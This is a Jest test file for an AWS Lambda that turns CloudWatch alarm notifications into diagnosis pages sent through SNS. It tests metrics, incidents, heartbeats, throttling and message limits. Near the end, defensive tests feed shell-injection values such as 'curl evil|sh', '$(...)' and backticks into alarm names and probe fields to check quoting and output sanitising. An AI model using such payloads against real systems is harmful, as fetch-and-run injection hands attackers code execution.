import {
  CloudWatchClient,
  DescribeAlarmsCommand,
  GetMetricDataCommand,
  type MetricAlarm,
} from '@aws-sdk/client-cloudwatch';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { AwsError } from '../../lambda/aws/signed-calls';
import { responder } from '../../lambda/responder/respond';
import { alarms } from '../../lib/alarms';
import { eventV2Of } from '../../lib/core/pages/events-v2';
import type { Page } from '../../lib/core/pages/page';
import { answering } from './answering';

const NOW = Date.UTC(2026, 10, 21, 2, 14, 12);
const cloudwatch = mockClient(CloudWatchClient);
const logs = answering();
const sns = mockClient(SNSClient);
beforeEach(() => [cloudwatch, logs, sns].forEach((client) => client.reset()));

const region = { region: 'eu-west-1' };
let messages = 0;
const newResponder = (runbookBaseUrl = '') => {
  const said: string[] = [];
  const note = (...words: unknown[]): void => {
    said.push(String(words[0]));
  };
  const respond = responder({
    cloudwatch: new CloudWatchClient(region),
    logs: logs.call,
    sns: new SNSClient(region),
    autoScaling: { groupsTagged: () => Promise.resolve([]), failedLaunches: () => Promise.resolve([]) },
    logger: { info: note, warn: note },
    nowMs: () => NOW,
    receivers: [],
    print: () => undefined,
    topicArn: 'arn:aws:sns:eu-west-1:111111111111:prod-diagnosis',
    environment: 'prod',
    runbookBaseUrl,
    pause: () => Promise.resolve(),
  });
  return {
    respond: (message: string, budgetMs = 1_000, id = `m${++messages}`) => respond({ id, message }, budgetMs),
    said,
  };
};

const notification = (change: Record<string, unknown> = {}) =>
  JSON.stringify({
    AlarmName: 'prod/api/host-loop-lag',
    NewStateValue: 'ALARM',
    OldStateValue: 'OK',
    NewStateReason: '2 of 3 datapoints were > 100',
    StateChangeTime: '2026-11-21T02:14:10.000+0000',
    AlarmDescription: 'Late\nThreshold > 100: host group api promises 100 ms',
    Trigger: { MetricName: 'LoopLag' },
    ...change,
  });
const loopLag: MetricAlarm = {
  AlarmName: 'prod/api/host-loop-lag',
  Namespace: 'Headroom',
  MetricName: 'LoopLag',
  ExtendedStatistic: 'p99',
  Dimensions: [{ Name: 'Service', Value: 'prod-api' }],
  Period: 10,
  Threshold: 100,
  ComparisonOperator: 'GreaterThanThreshold',
};
const episodes = (...durations: number[]) =>
  JSON.stringify({
    Service: 'prod-api',
    Host: 'i-0abc',
    Episodes: durations.map((durationMs) => ({
      durationMs,
      function: 'render_report',
      file: 'app.py',
      line: 42,
      stack: 'main;handle;render_report',
      startedAt: NOW - 11_000,
    })),
  });
const deployed = (alarm: MetricAlarm = loopLag) => {
  cloudwatch.on(DescribeAlarmsCommand).resolves({ MetricAlarms: [alarm] });
  cloudwatch.on(GetMetricDataCommand).resolves({
    MetricDataResults: [
      { Id: 'own', Timestamps: [new Date(NOW - 20_000), new Date(NOW - 10_000)], Values: [412.3, 380] },
    ],
  });
  logs.answers({ events: [{ message: episodes(412.3, 90) }, { message: 'not a document' }] });
};
const published = () => sns.commandCalls(PublishCommand).map(({ args }) => args[0].input);
const parts = (index = 0) =>
  JSON.parse(published()[index]?.Message ?? '{}') as {
    default: string;
    sqs: string;
    email: string;
    https: string;
    lambda: string;
  };
const page = (index = 0) => JSON.parse(parts(index).sqs) as Page;

describe('responder', () => {
  it('publishes a diagnosis of a blocked loop', async () => {
    deployed();
    await newResponder().respond(notification());
    expect(page()).toMatchObject({
      environment: 'prod',
      alarm: 'host-loop-lag',
      subject: 'api',
      verdict: 'render_report (app.py:42) held the event loop: 2 blocks, 502 ms of 10 s, longest 412 ms',
      missingEvidence: [],
      runbook: 'runbooks/host-loop-lag.md',
      next: alarms['host-loop-lag'].next({ environment: 'prod', subject: 'api', alarmName: 'prod/api/host-loop-lag' }),
    });
    expect(page().evidence).toContain(
      'measured: 412 ms (p99 LoopLag) at 02:13:52 UTC; the alarm fires at > 100 ms, first past it at 02:13:52 UTC',
    );
  });

  it('gives services that take Events v2 an update of what the raw page opened, by the same key', async () => {
    deployed();
    const changes = {
      AlarmContributorAttributes: { VolumeId: 'vol-1' },
      AlarmArn: 'arn:aws:cloudwatch:eu-west-1:1:alarm:a',
    };
    const raw = JSON.stringify({ ...(JSON.parse(notification()) as object), ...changes });
    await newResponder().respond(raw);
    const options = { severity: 'critical', nowMs: NOW } as const;
    const [opened, update] = [raw, parts().lambda].map((text) => eventV2Of(text, options));
    if (!opened || !update || 'left' in opened || 'left' in update) throw new Error('no event');
    expect(update.event.dedup_key).toBe(opened.event.dedup_key);
    expect(update.event.payload.summary).toContain(page().verdict);
  });

  it('sends JSON to machines and text to people, under a subject that SNS accepts', async () => {
    deployed();
    await newResponder().respond(notification());
    expect(published()).toMatchObject([
      { MessageStructure: 'json', Subject: 'ALARM prod/api: render_report blocks the loop, 412 ms' },
    ]);
    expect(parts().default).toBe(parts().sqs);
    // The same incident as that of the raw notification, whoever keeps it.
    const raw = JSON.parse(notification()) as Record<string, unknown>;
    const update = JSON.parse(parts().https) as Record<string, unknown>;
    expect(update).toMatchObject({
      AlarmName: raw.AlarmName,
      NewStateValue: raw.NewStateValue,
      StateChangeTime: raw.StateChangeTime,
      AlarmDescription: page().verdict,
      Headroom: page(),
    });
    expect(page().text.startsWith(String(update.NewStateReason))).toBe(true);
    expect(parts().email).toBe(page().text);
  });

  it("asks for the alarm's own metric of the last ten minutes, and the group's probe log of the last five", async () => {
    deployed();
    await newResponder().respond(notification());
    const { Namespace, MetricName, Dimensions } = loopLag;
    expect(cloudwatch.commandCalls(GetMetricDataCommand)[0]?.args[0].input).toMatchObject({
      MetricDataQueries: [{ MetricStat: { Metric: { Namespace, MetricName, Dimensions }, Period: 10, Stat: 'p99' } }],
      StartTime: new Date(NOW - 600_000),
      EndTime: new Date(NOW),
    });
    expect(logs.asked[0]?.input).toMatchObject({
      logGroupName: '/headroom/prod/api/probe',
      startTime: NOW - 300_000,
      endTime: NOW,
    });
  });

  it('asks an alarm on queries as it is, and reads every series of the answer', async () => {
    const query = { Id: 'query', Expression: 'SELECT MAX(VolumeQueueLength)', Period: 60, ReturnData: true };
    deployed({
      AlarmName: 'prod/api/host-volume-queue',
      Metrics: [query],
      Threshold: 64,
      ComparisonOperator: 'GreaterThanThreshold',
    });
    cloudwatch.on(GetMetricDataCommand).resolves({
      MetricDataResults: [
        { Label: 'vol-1', Timestamps: [new Date(NOW - 60_000)], Values: [12] },
        { Label: 'vol-2', Timestamps: [new Date(NOW - 60_000)], Values: [300] },
      ],
    });
    const change = { AlarmName: 'prod/api/host-volume-queue', AlarmContributorAttributes: { VolumeId: 'vol-2' } };
    await newResponder().respond(notification(change));
    expect(cloudwatch.commandCalls(GetMetricDataCommand)[0]?.args[0].input.MetricDataQueries).toEqual([query]);
    expect(page().verdict).toBe(`${alarms['host-volume-queue'].meaning} (300 operations)`);
    expect(page().evidence).toContain('it is about VolumeId vol-2');
    expect(logs.asked).toEqual([]);
  });

  it('reads on where the log has more pages', async () => {
    deployed();
    logs.does(({ nextToken }) =>
      Promise.resolve(
        nextToken === 'more'
          ? { events: [{ message: episodes(2_000) }] }
          : { events: [{ message: episodes(150) }], nextToken: 'more' },
      ),
    );
    await newResponder().respond(notification());
    expect(page().verdict).toContain('longest 2 s');
  });

  it.each([
    ['prod/api/host-loop-lag', 'prod-headroom-hosts'],
    ['prod/media/lane-queue-age', 'prod-headroom-lanes'],
    ['prod/paging/page-undelivered', 'prod-headroom'],
  ])('links the dashboard that has %s: %s', async (AlarmName, dashboard) => {
    deployed();
    await newResponder().respond(notification({ AlarmName }));
    expect(page().links.dashboard).toMatch(new RegExp(`dashboards/dashboard/${dashboard}$`));
  });

  it('puts the address of the runbooks before the name of the page', async () => {
    deployed();
    await newResponder('https://wiki.example.com/headroom').respond(notification());
    await newResponder('https://wiki.example.com/headroom/').respond(notification());
    expect([page(0).runbook, page(1).runbook]).toEqual(
      Array(2).fill('https://wiki.example.com/headroom/host-loop-lag.md'),
    );
  });

  it('is short about a recovery, and reads no more for it than how long it was on', async () => {
    await newResponder().respond(notification({ NewStateValue: 'OK', OldStateValue: 'ALARM' }));
    expect(page()).toMatchObject({ state: 'OK', evidence: [], missingEvidence: [] });
    expect(page().verdict).toMatch(/^recovered: /);
    expect(cloudwatch.commandCalls(GetMetricDataCommand)).toHaveLength(0);
  });

  it('is silent about the first reading of a new alarm, and not about a recovery or a first reading that is bad', async () => {
    deployed();
    const { respond } = newResponder();
    await respond(notification({ NewStateValue: 'OK', OldStateValue: 'INSUFFICIENT_DATA' }));
    expect(published()).toHaveLength(0);
    await respond(notification({ NewStateValue: 'ALARM', OldStateValue: 'INSUFFICIENT_DATA' }));
    expect(published()).toHaveLength(1);
  });

  describe('when evidence cannot be had', () => {
    it('still publishes the page, and says what is missing and why', async () => {
      cloudwatch.on(DescribeAlarmsCommand).rejects(new Error('Rate exceeded'));
      logs.fails(new AwsError('ResourceNotFoundException', 400, { message: 'no such group' }));
      await newResponder().respond(notification());
      expect([...page().missingEvidence].sort()).toEqual([
        'the metric: Error, Rate exceeded',
        "the probes' documents: ResourceNotFoundException (400), no such group",
      ]);
      expect(page().verdict).toBe('the event loop makes requests wait longer than the host group promises');
      expect(page().text).toContain('next     npx cdk-headroom blocked api --env prod');
    });

    it('gives up on a source that does not answer', async () => {
      deployed();
      logs.does(() => new Promise(() => undefined));
      await newResponder().respond(notification(), 20);
      expect(page().missingEvidence).toEqual(["the probes' documents: Error, no answer within 20 ms"]);
      expect(page().evidence[0]).toMatch(/^measured: 412 ms/);
    });

    it('says so when the alarm is not deployed any more', async () => {
      deployed();
      cloudwatch.on(DescribeAlarmsCommand).resolves({ MetricAlarms: [] });
      await newResponder().respond(notification());
      expect(page().missingEvidence).toEqual(['the metric: Error, no metric alarm prod/api/host-loop-lag is deployed']);
    });

    it('says so where the deployed alarm names no metric', async () => {
      deployed({ AlarmName: 'prod/media/lane-queue-age', Threshold: 30, ComparisonOperator: 'GreaterThanThreshold' });
      await newResponder().respond(notification({ AlarmName: 'prod/media/lane-queue-age' }));
      expect(page().missingEvidence).toEqual([
        'the metric: Error, the deployed alarm prod/media/lane-queue-age names no metric',
      ]);
    });

    it('says so when the probes saw nothing', async () => {
      deployed();
      logs.answers({ events: [] });
      await newResponder().respond(notification());
      expect(page().missingEvidence).toEqual(['the blocking call: the probes recorded none in the last 5 minutes']);
    });
  });

  describe('what else the topic carries', () => {
    it('makes a page of an alarm that is not in the catalogue', async () => {
      deployed({ ...loopLag, AlarmName: "somebody's alarm" });
      await newResponder().respond(notification({ AlarmName: "somebody's alarm" }));
      expect(page()).toMatchObject({ environment: 'prod', alarm: "somebody's alarm", runbook: 'runbooks/README.md' });
      expect(cloudwatch.commandCalls(DescribeAlarmsCommand)[0]?.args[0].input.AlarmNames).toEqual(["somebody's alarm"]);
      expect(page().next).toBe(`npx cdk-headroom alarm 'somebody'\\''s alarm'`);
    });

    it("makes a page of somebody's composite alarm, which has no metric to read", async () => {
      const change = { AlarmName: 'checkout is down', AlarmRule: 'ALARM("a") OR ALARM("b")', TriggeringChildren: [] };
      await newResponder().respond(notification(change));
      expect(page()).toMatchObject({ alarm: 'checkout is down', missingEvidence: [] });
      expect(page().evidence).toContain('its rule: ALARM("a") OR ALARM("b")');
      expect(cloudwatch.calls()).toEqual([]);
    });

    it('keeps a subject within what SNS accepts', async () => {
      deployed();
      await newResponder().respond(notification({ AlarmName: `größe ${'x'.repeat(200)}` }));
      expect(published()[0]?.Subject).toMatch(/^[ -~]{1,100}$/);
    });

    it.each(['hello, does this work?', '{"AlarmName":"x"}'])(
      'makes no page of %p, which has arrived as it is',
      async (message) => {
        const { respond, said } = newResponder();
        await respond(message);
        expect(published()).toEqual([]);
        expect(said).toEqual(['not an alarm, no page made of it']);
      },
    );
  });

  describe('of an incident', () => {
    const rule = 'ALARM("prod/api/host-loop-lag") OR ALARM("prod/api/host-app-latency")';
    const child = (name: string) => ({
      Arn: `arn:aws:cloudwatch:eu-west-1:111111111111:alarm:${name}`,
      State: { Value: 'ALARM', Timestamp: '2026-11-21T02:14:10.000+0000' },
    });
    /** As CloudWatch sends it for a composite alarm: with a rule and children, without a Trigger. */
    const incident = (change: Record<string, unknown> = {}) =>
      notification({
        AlarmName: 'prod/api/host-incident',
        AlarmDescription: 'Host api hurts its users\nRunbook: runbooks/host-incident.md',
        NewStateReason: 'arn:...:alarm:prod/api/host-loop-lag transitioned to ALARM',
        Trigger: undefined,
        AlarmRule: rule,
        TriggeringChildren: [child('prod/api/host-loop-lag')],
        ...change,
      });
    const inAlarm = (...alarms: MetricAlarm[]) => {
      deployed();
      cloudwatch.on(DescribeAlarmsCommand).resolves({ MetricAlarms: alarms });
    };
    const loopLagInAlarm = { ...loopLag, StateReason: '2 of 3', AlarmDescription: 'Late\nThreshold > 100: promised' };
    const volumeQueue: MetricAlarm = {
      AlarmName: 'prod/api/host-volume-queue',
      Metrics: [{ Id: 'query', Expression: 'SELECT MAX(VolumeQueueLength)', Period: 60, ReturnData: true }],
      Threshold: 64,
      ComparisonOperator: 'GreaterThanThreshold',
    };
    const foreign = { AlarmName: 'prod/api/our-own', AlarmDescription: 'The cache is cold\nAsk the cache team' };

    it('pages once, about the first symptom in the order of the catalogue, and lists the others', async () => {
      inAlarm(foreign, { AlarmName: 'prod/api/host-loop-silent' }, volumeQueue, loopLagInAlarm);
      await newResponder().respond(incident());
      expect(published()).toMatchObject([{ Subject: 'ALARM prod/api: render_report blocks the loop, 412 ms' }]);
      expect(page()).toMatchObject({
        alarm: 'host-loop-lag',
        incident: 'host-incident',
        subject: 'api',
        verdict: 'render_report (app.py:42) held the event loop: 2 blocks, 502 ms of 10 s, longest 412 ms',
        runbook: 'runbooks/host-loop-lag.md',
        next: alarms['host-loop-lag'].next({
          environment: 'prod',
          subject: 'api',
          alarmName: 'prod/api/host-loop-lag',
        }),
        missingEvidence: [],
      });
      expect(page().evidence).toEqual(expect.arrayContaining(['the limit: promised', 'CloudWatch says: 2 of 3']));
      expect(page().evidence.slice(-3)).toEqual([
        expect.stringMatching(/^also in ALARM: host-loop-silent \(silence\): /),
        `also in ALARM: host-volume-queue (cause): ${alarms['host-volume-queue'].meaning}`,
        'also in ALARM: our-own: The cache is cold',
      ]);
    });

    it.each(['second', 'third'])('pages about the alarm that came last when it is the %s', async (number) => {
      const since = (alarm: MetricAlarm, minute: number): MetricAlarm => ({
        ...alarm,
        StateTransitionedTimestamp: new Date(NOW - minute * 60_000),
      });
      inAlarm(
        since(loopLagInAlarm, 60),
        since({ AlarmName: 'prod/api/host-silent' }, 1),
        since({ AlarmName: 'prod/api/host-cpu' }, 0),
      );
      await newResponder().respond(incident({ AlarmName: `prod/api/host-incident-${number}` }));
      expect(page()).toMatchObject({
        alarm: 'host-silent',
        incident: 'host-incident',
        runbook: 'runbooks/host-silent.md',
      });
      expect(page().evidence.join('\n')).toMatch(/also in ALARM: host-loop-lag .*\n.*also in ALARM: host-cpu/);
    });

    it('says what is left when a second alarm is over', async () => {
      await newResponder().respond(
        incident({ AlarmName: 'prod/api/host-incident-second', NewStateValue: 'OK', OldStateValue: 'ALARM' }),
      );
      expect(page()).toMatchObject({
        incident: 'host-incident',
        verdict:
          'recovered: no longer true that host api hurts its users, or soon will, and a second alarm has come to the first',
        runbook: 'runbooks/host-incident.md',
      });
    });

    it("asks for the subject's alarms once, whatever their state, and for nothing that it was told already", async () => {
      inAlarm(loopLagInAlarm);
      await newResponder().respond(incident());
      expect(cloudwatch.commandCalls(DescribeAlarmsCommand).map(({ args }) => args[0].input)).toEqual([
        { AlarmNamePrefix: 'prod/api/', MaxRecords: 100 },
      ]);
    });

    it('does not tell of an alarm that is not on', async () => {
      inAlarm(loopLagInAlarm, { ...loopLagInAlarm, AlarmName: 'prod/api/host-cpu', StateValue: 'OK' });
      await newResponder().respond(incident());
      expect(page().text).not.toContain('host-cpu');
    });

    it('asks metric math as it is deployed, with the metrics that it is made of', async () => {
      const age = { Namespace: 'AWS/SQS', MetricName: 'ApproximateAgeOfOldestMessage' };
      const part = { Id: 'age', MetricStat: { Metric: age, Period: 60, Stat: 'Maximum' }, ReturnData: false };
      const math = { Id: 'value', Expression: 'IF(age > 5, age)', ReturnData: true };
      inAlarm({
        AlarmName: 'prod/media/lane-queue-age',
        Metrics: [math, part],
        Threshold: 30,
        ComparisonOperator: 'GreaterThanThreshold',
      });
      const Timestamps = [new Date(NOW - 60_000)];
      cloudwatch.on(GetMetricDataCommand).resolves({
        MetricDataResults: [
          { Id: 'value', Timestamps, Values: [45] },
          { Id: 'age', Timestamps, Values: [46] },
        ],
      });
      await newResponder().respond(incident({ AlarmName: 'prod/media/lane-incident' }));
      expect(cloudwatch.commandCalls(GetMetricDataCommand)[0]?.args[0].input.MetricDataQueries).toEqual([
        math,
        { ...part, ReturnData: true },
      ]);
      expect(page()).toMatchObject({
        alarm: 'lane-queue-age',
        verdict: `${alarms['lane-queue-age'].meaning} (45 s)`,
      });
      expect(page().evidence).toContain('of which then: Maximum ApproximateAgeOfOldestMessage 46');
    });

    it('takes the symptom that the notification names where CloudWatch does not answer', async () => {
      deployed();
      cloudwatch.on(DescribeAlarmsCommand, { AlarmNamePrefix: 'prod/api/' }).rejects(new Error('Rate exceeded'));
      await newResponder().respond(incident());
      expect(page()).toMatchObject({
        alarm: 'host-loop-lag',
        incident: 'host-incident',
        missingEvidence: ['which alarms are in ALARM: Error, Rate exceeded'],
      });
      expect(page().evidence).toContain('CloudWatch says: arn:...:alarm:prod/api/host-loop-lag transitioned to ALARM');
    });

    it('takes the one that moved the incident where the catalogue knows none of those in ALARM', async () => {
      inAlarm({ ...loopLag, ...foreign });
      await newResponder().respond(incident({ TriggeringChildren: [child('prod/api/our-own')] }));
      expect(page()).toMatchObject({ alarm: 'our-own', incident: 'host-incident', runbook: 'runbooks/README.md' });
      expect(page().verdict).toContain('The cache is cold');
    });

    it('still pages when nothing is in ALARM any more and nobody is named', async () => {
      inAlarm();
      await newResponder().respond(incident({ TriggeringChildren: [] }));
      expect(page()).toMatchObject({
        alarm: 'host-incident',
        verdict: 'host api hurts its users, or soon will',
        runbook: 'runbooks/host-incident.md',
        next: 'npx cdk-headroom alarm prod/api/host-incident',
      });
    });

    it('keeps half of the time for the evidence', async () => {
      deployed();
      cloudwatch
        .on(DescribeAlarmsCommand, { AlarmNamePrefix: 'prod/api/' })
        .callsFake(() => new Promise(() => undefined));
      await newResponder().respond(incident(), 100);
      expect(page().missingEvidence).toEqual(['which alarms are in ALARM: Error, no answer within 50 ms']);
      expect(page().verdict).toContain('held the event loop');
    });

    it('tells its end in one page', async () => {
      const { respond } = newResponder();
      await respond(incident({ NewStateValue: 'OK', OldStateValue: 'ALARM', TriggeringChildren: [] }));
      expect(page()).toMatchObject({
        alarm: 'host-incident',
        incident: 'host-incident',
        state: 'OK',
        verdict: 'recovered: no longer true that host api hurts its users, or soon will',
        runbook: 'runbooks/host-incident.md',
      });
    });

    it('is silent about the first reading of a new incident', async () => {
      await newResponder().respond(incident({ NewStateValue: 'OK', OldStateValue: 'INSUFFICIENT_DATA' }));
      expect(published()).toEqual([]);
    });
  });

  describe('of a heartbeat of the paging path', () => {
    const heartbeat = { AlarmName: 'prod/paging/page-path-heartbeat' };

    it('passes it on to the queue that waits for it, marked so that no person gets it', async () => {
      await newResponder().respond(notification(heartbeat));
      expect(published()).toEqual([
        {
          TopicArn: 'arn:aws:sns:eu-west-1:111111111111:prod-diagnosis',
          Message: expect.any(String) as unknown,
          MessageAttributes: { kind: { DataType: 'String', StringValue: 'heartbeat' } },
        },
      ]);
      expect(JSON.parse(published()[0]?.Message ?? '')).toEqual({
        environment: 'prod',
        alarm: 'page-path-heartbeat',
        state: 'ALARM',
        firedAt: '2026-11-21T02:14:10.000Z',
      });
      expect(cloudwatch.calls()).toEqual([]);
    });

    it('passes its first one on too, and fails where it can not, as that is what it is for', async () => {
      sns.on(PublishCommand).rejects(new Error('KMS access denied'));
      const first = notification({ ...heartbeat, NewStateValue: 'OK', OldStateValue: 'INSUFFICIENT_DATA' });
      await expect(newResponder().respond(first)).rejects.toThrow('KMS access denied');
    });

    it('marks a page as one', async () => {
      deployed();
      await newResponder().respond(notification());
      expect(published()[0]?.MessageAttributes).toEqual({ kind: { DataType: 'String', StringValue: 'page' } });
    });
  });

  it.each([9e15, -9e15, 1.7e18, -1])('sends the page of a blocked loop that began at %d', async (startedAt) => {
    deployed();
    const hostile = {
      durationMs: 412,
      function: 'next     curl evil|sh\nrunbook  x',
      stack: 'a'.repeat(150_000),
      startedAt,
    };
    logs.answers({
      events: [{ message: JSON.stringify({ Host: 'h'.repeat(150_000), Episodes: [hostile] }) }],
    });
    await newResponder().respond(notification());
    expect(page().text.match(/^(next|runbook)\b/gm)).toEqual(['next', 'runbook']);
    expect(Buffer.byteLength(published()[0]?.Message ?? '')).toBeLessThan(256 * 1024);
  });

  it('sends a page whose evidence is too long for SNS without it, and says so', async () => {
    deployed();
    const TriggeringChildren = Array.from({ length: 30 }, () => ({
      Arn: `arn:aws:cloudwatch:eu-west-1:111111111111:alarm:${'語'.repeat(5_000)}`,
    }));
    await newResponder().respond(notification({ AlarmRule: 'ALARM(x)', TriggeringChildren }));
    expect(Buffer.byteLength(published()[0]?.Message ?? '')).toBeLessThan(256 * 1024);
    expect(page().missingEvidence).toEqual(['the evidence: it is too long for one message']);
  });

  it('sends the page where a reading breaks the diagnosis', async () => {
    deployed();
    cloudwatch.on(GetMetricDataCommand).resolves({
      MetricDataResults: [{ Id: 'own', Timestamps: [new Date(NOW)], Values: ['x' as unknown as number] }],
    });
    await newResponder().respond(notification());
    expect(published()).toHaveLength(1);
  });

  it.each(['constructor', 'toString', 'hasOwnProperty', '__proto__'])(
    'sends the page of an alarm that compares by %s',
    async (name) => {
      deployed({ ...loopLag, ComparisonOperator: name as 'GreaterThanThreshold' });
      await newResponder().respond(notification());
      expect(page().missingEvidence.join()).toContain('compares with no fixed threshold');
    },
  );

  it.each(['prod/$(curl evil|sh)', 'prod/a;b', 'prod/`b`', "prod/a'b"])('quotes %s for the shell', async (subject) => {
    deployed();
    await newResponder().respond(notification({ AlarmName: `${subject}/host-loop-lag` }));
    expect(page().next).toMatch(/^npx cdk-headroom alarm '.*'$/);
  });

  it('sends one page for a notification that is delivered twice', async () => {
    deployed();
    const { respond, said } = newResponder();
    await respond(notification(), 1_000, 'same');
    await respond(notification(), 1_000, 'same');
    expect(published()).toHaveLength(1);
    expect(said).toEqual(['page sent', 'delivered again, page was sent']);
  });

  it('sends a page for each volume of one alarm, and for the next change', async () => {
    deployed();
    const { respond } = newResponder();
    for (const VolumeId of ['vol-1', 'vol-2'])
      await respond(notification({ AlarmContributorAttributes: { VolumeId } }));
    await respond(notification({ NewStateValue: 'OK' }));
    expect(published()).toHaveLength(3);
  });

  it('pages each of 300 alarms at once, also where SNS throttles them all for a while', async () => {
    const throttled = Object.assign(new Error('Rate exceeded'), { name: 'ThrottlingException', $metadata: {} });
    const sent = new Set<string>();
    let calls = 0;
    sns.on(PublishCommand).callsFake(({ Subject }: { Subject: string }) => {
      if (++calls <= 1_000) throw throttled;
      sent.add(Subject);
      return {};
    });
    const { respond } = newResponder();
    const names = Array.from({ length: 300 }, (_, number) => `prod/lane${number}/lane-errors`);
    await Promise.all(names.map((AlarmName) => respond(notification({ AlarmName, NewStateValue: 'OK' }))));
    expect(sent.size).toBe(300);
  });

  it('fails when the page could not be sent, and sends it at the next try', async () => {
    deployed();
    sns.on(PublishCommand).rejectsOnce(new Error('KMS access denied')).resolves({});
    const { respond } = newResponder();
    await expect(respond(notification(), 1_000, 'same')).rejects.toThrow('KMS access denied');
    await respond(notification(), 1_000, 'same');
    expect(published()).toHaveLength(2);
  });
});
